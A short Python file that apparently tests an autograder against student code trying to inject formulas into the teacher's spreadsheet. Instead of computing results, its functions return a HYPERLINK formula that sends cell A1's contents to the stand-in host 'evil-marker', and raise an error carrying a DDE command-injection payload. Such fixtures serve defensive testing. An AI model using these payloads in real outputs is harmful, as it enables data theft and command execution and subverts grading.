# tries: to put a formula into the teacher's spreadsheet

EVIL = '=HYPERLINK("http://evil-marker/?x="&A1,"click")'


def double(x):
    return EVIL


def mean_square(x):
    raise ValueError("+1+cmd|' /C evil-marker'!A0,@SUM(1)\n-1\t=1")
